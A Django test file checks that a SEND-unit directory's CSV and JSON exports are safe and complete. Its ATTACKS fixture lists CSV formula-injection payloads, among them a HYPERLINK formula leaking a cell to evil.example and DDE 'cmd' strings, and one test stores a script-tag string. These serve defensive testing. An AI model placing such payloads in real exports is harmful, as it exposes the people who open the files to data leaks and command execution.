"""Open data: both CSV downloads go through one safe writer (no cell runs as a formula), and the JSON export
is complete (capacity figures, numeric coordinates, one way of saying "not known"). SQLite and PostgreSQL."""

import csv
import datetime
import decimal
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

import feedback.views
import units.exports
from feedback.models import Submission
from localoffer.csvsafe import SafeCSV, SafeWriter, restore_cell, safe_cell
from units.models import Figure, SendUnit

from .factories_units import SendUnitFactory
from .test_feedback import published

CSV_URL = "/send-units/export.csv"
JSON_URL = "/send-units/export.json"
REGISTER_CSV = "/you-said-we-did/export.csv"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def json_export(client, **params):
    response = client.get(JSON_URL, params)
    assert response.status_code == 200
    return json.loads(response.content)


# The shared writer ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_text_is_written_as_text(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value, written",
    [
        ("Barden Primary School", "Barden Primary School"),
        ("a=b", "a=b"),  # only the start of a cell makes a formula
        ("-2.24", "-2.24"),  # a number is not a formula: longitudes stay numbers
        ("+44", "+44"),
        (decimal.Decimal("-2.240000"), "-2.240000"),
        (-3, "-3"),
        (None, ""),
        (datetime.date(2025, 2, 1), "2025-02-01"),
        ("", ""),
    ],
)
def test_ordinary_values_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_every_cell_is_quoted_so_separators_stay_inside_it():
    out = io.StringIO()
    writer = SafeWriter(out, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "x;=1,y", "b": None})
    assert out.getvalue().splitlines() == ['"a","b"', '"x;=1,y",""']


def test_both_csv_downloads_use_the_one_shared_writer():
    assert feedback.views.SafeWriter is units.exports.SafeWriter is SafeWriter
    assert not hasattr(feedback.views, "csv_safe")


# The unit directory's CSV ---------------------------------------------------------------------------------


def test_unit_csv_neutralises_formulas_in_every_text_column(client, seeded):
    SendUnitFactory(
        slug="evil",
        name=ATTACKS[0],
        school_name=ATTACKS[3],
        town=ATTACKS[6],
        description=ATTACKS[2],
        contact_phone="+44 1772 000000",
        latitude=decimal.Decimal("53.789123"),
        longitude=decimal.Decimal("-2.240000"),
    )
    rows = csv_rows(client.get(CSV_URL))
    evil = next(row for row in rows if row["slug"] == "evil")
    assert evil["name"] == "'" + ATTACKS[0]
    assert evil["school_name"] == "'" + ATTACKS[3]
    assert evil["town"] == "'" + ATTACKS[6]
    assert evil["description"] == "'" + ATTACKS[2]
    assert evil["contact_phone"] == "'+44 1772 000000"
    assert (evil["latitude"], evil["longitude"]) == ("53.789123", "-2.24")
    for row in rows:
        for column, value in row.items():
            assert not value or value[:1] not in "=+-@\t\r" or value == evil["longitude"], (column, value)


def test_unit_csv_columns_and_unknown_values(client, seeded):
    response = client.get(CSV_URL)
    header = response.content.decode().splitlines()[0]
    assert header == ",".join(f'"{name}"' for name in units.exports.EXPORT_FIELDS)
    barden = next(row for row in csv_rows(response) if row["slug"] == "barden-primary-school")
    assert barden["places"] == barden["urn"] == barden["latitude"] == ""
    assert barden["opening_date"] == "2022-04"
    assert barden["need"] == "Social communication and interaction"


# The register's CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_register_csv_neutralises_formulas(client, seeded, attack):
    published(you_said=attack, we_did=attack)
    rows = csv_rows(client.get(REGISTER_CSV))
    row = next(row for row in rows if row["you_said"] == "'" + attack)
    assert row["we_did"] == "'" + attack
    assert len(rows) == Submission.objects.published().count()


# The JSON export -------------------------------------------------------------------------------------------


def test_json_export_carries_the_published_figures(client, seeded):
    figures = json_export(client)["figures"]
    assert set(figures) == {"open_places", "due_to_open", "new_places", "under_consideration"}
    assert figures["open_places"] == {
        "label": "Places in open units",
        "value": 144,
        "period": None,
        "as_of": None,
        "source": "Lancashire SEND Partnership news page",
    }
    assert figures["due_to_open"]["value"] == 4 and figures["due_to_open"]["period"] == "in 2023"
    assert figures["new_places"]["value"] == 88
    assert figures["under_consideration"]["value"] == 40


def test_json_figures_follow_staff_changes(client, seeded):
    Figure.objects.filter(kind=Figure.Kind.OPEN_PLACES).update(value=150, as_of=datetime.date(2025, 3, 2))
    Figure.objects.filter(kind=Figure.Kind.UNDER_CONSIDERATION).delete()
    figures = json_export(client)["figures"]
    assert (figures["open_places"]["value"], figures["open_places"]["as_of"]) == (150, "2025-03-02")
    assert figures["under_consideration"] is None


def test_json_headline_counts_the_unit_records_whatever_the_filters(client, seeded):
    data = json_export(client, town="Burnley")
    assert data["count"] == 2
    assert data["headline"] == {"open_units": 9, "open_places": None, "due_units": 0}
    assert data["figures"]["open_places"]["value"] == 144


def test_json_units_have_every_key_numbers_as_numbers_and_null_for_unknown(client, seeded):
    barden = SendUnit.objects.get(slug="barden-primary-school")
    barden.latitude, barden.longitude, barden.places = decimal.Decimal("53.789123"), decimal.Decimal("-2.24"), 8
    barden.save()
    units_ = json_export(client)["units"]
    for unit in units_:
        assert list(unit) == units.exports.EXPORT_FIELDS
        assert "" not in unit.values()
    row = next(unit for unit in units_ if unit["slug"] == "barden-primary-school")
    assert (row["latitude"], row["longitude"], row["places"]) == (53.789123, -2.24, 8)
    other = next(unit for unit in units_ if unit["slug"] == "walverden-primary-school")
    assert other["latitude"] is other["longitude"] is other["urn"] is other["places"] is None


def test_json_keeps_text_exactly_as_typed(client, seeded):
    SendUnitFactory(slug="evil", name=ATTACKS[0], description="<script>alert(1)</script>")
    row = next(unit for unit in json_export(client)["units"] if unit["slug"] == "evil")
    assert row["name"] == ATTACKS[0]  # JSON is not a spreadsheet: no quote added
    assert row["description"] == "<script>alert(1)</script>"


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_export_queries_are_constant_in_the_number_of_units(client, seeded, url, django_assert_max_num_queries):
    query = {"need": "social-communication-and-interaction"}
    client.get(url, query)
    with CaptureQueriesContext(connection) as with_nine:
        client.get(url, query)
    SendUnitFactory.create_batch(60)
    client.get(url, query)
    with CaptureQueriesContext(connection) as with_sixty_nine:
        client.get(url, query)
    assert len(with_sixty_nine) == len(with_nine)
    with django_assert_max_num_queries(6):
        client.get(url, query)


@pytest.mark.parametrize(
    "query", [{"need": "no-such-need"}, {"district": "a\x00b"}, {"status": "x" * 5000}, {"q": "x" * 300}]
)
def test_a_bad_filter_is_a_clear_400_not_the_whole_list(client, seeded, query):
    data = client.get(JSON_URL, query)
    assert data.status_code == 400
    assert data.json()["error"].startswith("Bad filter, nothing exported.")
    assert set(data.json()["fields"]) == set(query)
    text = client.get(CSV_URL, query)
    assert text.status_code == 400
    assert text["Content-Type"] == "text/plain; charset=utf-8"
    assert list(query)[0] in text.content.decode()


# The admin's Import/Export of units ------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*ATTACKS, "'=1+1", "''@x", "'plain", "plain", "-2.24"])
def test_restore_cell_undoes_safe_cell(text):
    assert restore_cell(safe_cell(text)) == text


def test_admin_export_is_safe_and_reimports_unchanged(seeded):
    from units.admin import SendUnitAdmin, SendUnitResource

    assert SendUnitAdmin.export_formats == SendUnitAdmin.import_formats == [SafeCSV]
    SendUnitFactory(slug="evil", name=ATTACKS[0], description=ATTACKS[2], contact_phone="+44 1772 000000")
    exported = SafeCSV().export_data(SendUnitResource().export())
    evil = next(row for row in csv.DictReader(io.StringIO(exported)) if row["slug"] == "evil")
    assert (evil["name"], evil["description"]) == ("'" + ATTACKS[0], "'" + ATTACKS[2])
    assert evil["contact_phone"] == "'+44 1772 000000"

    before = {unit.slug: (unit.name, unit.description, unit.contact_phone) for unit in SendUnit.objects.all()}
    dataset = SafeCSV().create_dataset(exported)
    result = SendUnitResource().import_data(dataset, dry_run=False, raise_errors=True)
    assert not result.has_errors() and not result.has_validation_errors()
    after = {unit.slug: (unit.name, unit.description, unit.contact_phone) for unit in SendUnit.objects.all()}
    assert after == before


def test_admin_export_download_is_safe(client, seeded, publisher):
    SendUnitFactory(slug="evil", name=ATTACKS[0])
    client.force_login(publisher)
    from units.admin import SendUnitResource

    chosen = {f"sendunitresource_{name}": "on" for name in SendUnitResource().get_export_order()}
    response = client.post("/admin/units/sendunit/export/", {"format": "0", "resource": "0", **chosen})
    assert response.status_code == 200, response.content[:500]
    rows = csv.DictReader(io.StringIO(response.content.decode()))
    assert next(row for row in rows if row["slug"] == "evil")["name"] == "'" + ATTACKS[0]
